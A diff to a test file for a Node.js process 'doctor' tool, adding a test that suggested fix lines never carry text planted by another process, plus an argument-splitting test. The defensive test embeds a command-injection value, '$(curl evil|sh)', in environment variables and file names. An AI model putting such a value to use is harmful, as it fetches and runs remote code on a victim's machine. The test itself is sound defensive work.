@@ -11,6 +11,7 @@ const { exportsSymbol, parseElf } = require('../lib/doctor/facts/elf.js');
 const { resolveIn } = require('../lib/doctor/facts/files.js');
 const { readHost } = require('../lib/doctor/facts/host.js');
 const { readPreload } = require('../lib/doctor/facts/preload.js');
+const { splitArguments } = require('../lib/doctor/facts/process.js');
 const { descendants } = require('../lib/doctor/facts/tree.js');
 const { plain, toJson, toText } = require('../lib/doctor/report.js');
 const { RULES, judge } = require('../lib/doctor/rules/index.js');
@@ -35,7 +36,7 @@ const makeProcess = (own = {}) => ({
   ppid: 1,
   label: 'node server.js',
   program: '/usr/bin/node',
-  argv: ['node', 'server.js'],
+  ownArguments: [],
   node: true,
   environment: {},
   executable: { machine: 'x64', bits: 64, libc: 'glibc' },
@@ -156,6 +157,42 @@ describe('rules', () => {
     );
   });
 
+  test('no line to paste has a command in it that another process wrote', () => {
+    const evil = '/x;$(curl evil|sh)\nRUN`evil`&';
+    const environment = {
+      LD_PRELOAD: evil,
+      MALLOC_CONF: `narena:${evil},retain:true`,
+      NODE_OPTIONS: `-r ${evil}`,
+    };
+    const named = { entry: evil, file: evil, elf: null, detail: null };
+    const preload = ['missing', 'unreadable', 'not-a-library', 'spaces'].flatMap((problem) => [
+      { ...named, problem, allocator: 'jemalloc', malloc: null },
+      { ...named, entry: `./${evil}`, problem, allocator: null, malloc: null },
+    ]);
+    const mapped = [evil, `${evil}2`].map((file) => ({
+      file,
+      allocator: 'jemalloc',
+      malloc: true,
+    }));
+    const own = { environment, preload, mapped, program: evil, label: evil, heapLimit: 2 ** 40 };
+    const processes = [
+      makeProcess({ ...own, options: { ...OPTIONS, background_thread: false } }),
+      makeProcess({
+        ...own,
+        secure: true,
+        allocator: { ...makeProcess().allocator, name: 'glibc' },
+      }),
+    ];
+    const container = { ...CONTAINER, memoryLimit: 2 ** 29 };
+    const findings = judge(makeFacts({ host: { container }, processes }));
+    assert.ok(new Set(findings.map(({ code }) => code)).size >= 9);
+    for (const { code, fix } of findings) {
+      for (const line of fix.flatMap(({ lines }) => lines)) {
+        assert.doesNotMatch(line, /evil|\n/, code);
+      }
+    }
+  });
+
   test('errors come before warnings, and these before remarks', () => {
     const addon = { loaded: false, why: 'why' };
     const options = { ...OPTIONS, background_thread: false };
@@ -176,7 +213,7 @@ describe('rules', () => {
       options: null,
       optionsFrom: null,
       backgroundThreads: null,
-      argv: [],
+      ownArguments: [],
       denied: ['/proc/7/environ'],
     });
     const container = { cpus: null, cpuQuota: null, hostCpus: null, memoryLimit: null, thp: null };
@@ -458,6 +495,16 @@ describe('foreign text', () => {
       }),
     );
   });
+});
+
+test('which words are of Node.js, and which of the script', () => {
+  const split = (line) => splitArguments(line.split(' '));
+  assert.deepEqual(split('node -r ./a --max-old-space-size=9 s.js --max-old-space-size=8'), {
+    own: ['-r', './a', '--max-old-space-size=9'],
+    script: 's.js',
+  });
+  assert.deepEqual(split('node -p secret'), { own: ['-p'], script: null });
+  assert.deepEqual(split('node'), { own: [], script: null });
 });
 
 test('the tree of processes: circles and orphans do not matter', () => {
